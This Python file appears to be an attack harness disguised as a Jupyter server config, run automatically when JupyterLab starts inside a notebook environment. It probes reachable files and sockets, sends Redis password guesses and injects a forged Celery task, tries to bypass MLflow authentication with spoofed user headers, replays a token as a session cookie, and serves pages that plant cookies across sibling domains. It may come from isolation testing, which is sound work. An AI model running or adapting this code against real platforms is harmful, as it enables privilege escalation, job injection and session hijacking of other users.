"""A notebook turned against the portal: `.jupyter/jupyter_server_config.py` in its volume, run as JupyterLab starts.

First it tries from inside what can be reached and writes `report.json`; then it becomes a web server of its owner's own
at the environment's address. Standard library only.
"""

import http.client
import http.server
import json
import os
import socket
import urllib.error
import urllib.request

PORTAL = os.environ["MLFLOW_TRACKING_URI"].split("/mlflow")[0]
TOKEN = os.environ["MLFLOW_TRACKING_TOKEN"]
with open("told.json") as file:
    GIVEN = json.load(file)


def asked(url, method="GET", token="", body=None, **headers):
    """Status of an answer and the beginning of its text."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(
        url, method=method, data=data, headers={"Content-Type": "application/json", **headers}
    )
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return [answer.status, answer.read(200).decode("utf-8", "replace")]
    except urllib.error.HTTPError as error:
        return [error.code, error.read(200).decode("utf-8", "replace")]
    except (OSError, http.client.HTTPException) as error:
        return [0, str(error)]


def read(path):
    try:
        return str(os.listdir(path))[:100] if os.path.isdir(path) else open(path, "rb").read(20).hex()
    except OSError as error:
        return f"refused {type(error).__name__}"


def redis(port):
    """Without a password, with guesses, and a task that a worker would take."""
    task = json.dumps({"body": "W10=", "headers": {"task": "apps.provisioning.tasks.changes_wake"}, "properties": {}})
    commands = ["PING", "AUTH slipway", f"AUTH {TOKEN}", f"LPUSH celery {json.dumps(task)}", "KEYS *"]
    try:
        with socket.create_connection(("127.0.0.1", port), 3) as connection:
            connection.settimeout(3)
            connection.sendall("".join(f"{command}\r\n" for command in commands).encode())
            return connection.recv(300).decode("utf-8", "replace")
    except OSError as error:
        return f"refused {type(error).__name__}"


def mlflow(port):
    """MLflow's own server, past the portal: with no secret, with the token, as the portal would ask."""
    url = f"http://127.0.0.1:{port}/api/2.0/mlflow/experiments/search?max_results=10"
    return [
        asked(url)[0],
        asked(url, token=TOKEN)[0],
        asked(url, **{"X-Slipway-User": "pete", "X-Forwarded-User": "pete"})[0],
    ]


def portal(path, method="GET", body=None):
    return asked(f"{PORTAL}/{path}", method, TOKEN, body)


def report():
    ports = GIVEN["ports"]
    return {
        "files": {path: read(path) for path in GIVEN["files"]},
        "processes": sorted(int(name) for name in os.listdir("/proc") if name.isdigit()),
        "unix": {path: read(os.path.dirname(path)) for path in GIVEN["sockets"]},
        "redis": {port: redis(port) for port in ports},
        "mlflow": {port: mlflow(port) for port in ports},
        "api": {f"{method} {path}": portal(path, method, body) for method, path, body in GIVEN["requests"]},
        "mlflow own": portal("mlflow/api/2.0/mlflow/experiments/search?max_results=100"),
        "cookie": asked(f"{PORTAL}/api/v1/environments/", Cookie=f"slipway_session={TOKEN}")[0],
    }


class Pages(http.server.BaseHTTPRequestHandler):
    """An empty page for scripts, with cookies for the neighbours."""

    def do_GET(self):
        text = b"<!doctype html><title>Mine</title><body>mine</body>"
        kind = "text/html"
        if self.path.startswith("/worker.js"):
            text, kind = b"self.addEventListener('fetch', event => {})", "text/javascript"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(text)))
        self.send_header("Service-Worker-Allowed", "/")
        if self.path.startswith("/plant"):
            for name in GIVEN["cookies"]:
                for domain in ("", "; Domain=localhost", "; Domain=apps.localhost", "; Domain=.apps.localhost"):
                    self.send_header("Set-Cookie", f"{name}=planted; Path=/{domain}")
        self.end_headers()
        self.wfile.write(text)

    do_POST = do_GET  # noqa: N815 - a name that http.server calls

    def log_message(self, *arguments):
        pass


if os.environ.get("SLIPWAY_PORT"):
    with open("report.new", "w") as file:
        json.dump(report(), file)
    os.rename("report.new", "report.json")
    http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["SLIPWAY_PORT"])), Pages).serve_forever()
